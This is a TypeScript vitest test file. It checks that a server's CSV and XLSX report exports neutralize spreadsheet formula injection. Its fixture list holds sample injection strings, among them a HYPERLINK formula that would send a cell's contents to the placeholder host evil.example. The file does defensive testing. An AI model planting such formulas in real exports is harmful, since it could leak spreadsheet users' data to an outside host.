/**
 * CSV injection in exports: a value an item import refuses may still arrive by another path (an
 * older import, a synced edit), so the exports neutralize it. CSV: text starting with =, +, -, @,
 * tab or CR gets a leading ' (numbers stay numbers). XLSX: every text value is a string cell,
 * never a formula.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { toCsv, toXlsx } from '../../../server/reports/export.js';
import type { ReportResult } from '../../../shared/api/reports.js';

const NASTY = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];

const report: ReportResult = {
  report: 'inventory',
  tenants: ['acme'],
  tenantColumn: false,
  columns: [
    { key: 'name', field: 'items.name', label: 'Name', type: 'string' },
    { key: 'onHand', field: 'balances.quantity', label: 'On hand', type: 'number' },
  ],
  rows: [...NASTY.map((name) => ({ name, onHand: -5 })), { name: 'Plain - dash', onHand: 1 }],
};

describe('exports neutralize formula-looking text', () => {
  it('CSV: every formula-looking cell is prefixed with a quote; numbers and plain text are untouched', () => {
    const lines = toCsv(report).split('\r\n');
    expect(lines[0]).toBe('Name,On hand');
    const csv = toCsv(report);
    for (const v of NASTY) expect(csv).toContain(`"'${v.replaceAll('"', '""')}",-5`);
    expect(csv).toContain('\r\nPlain - dash,1\r\n');
    // No line (record start or field start) begins a field with a formula character.
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+@]/);
  });

  it('XLSX: formula-looking text is stored as a string cell (no formula), value unchanged', async () => {
    const buf = await toXlsx(report, 'Inventory');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    expect(ws).toBeDefined();
    NASTY.forEach((v, i) => {
      const cell = ws!.getCell(i + 2, 1);
      expect(cell.type, v).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, v).toBeUndefined();
      // (XML reads a lone CR back as LF.)
      expect(cell.value).toBe(v.replace('\r', '\n'));
      expect(ws!.getCell(i + 2, 2).value).toBe(-5);
    });
  });
});
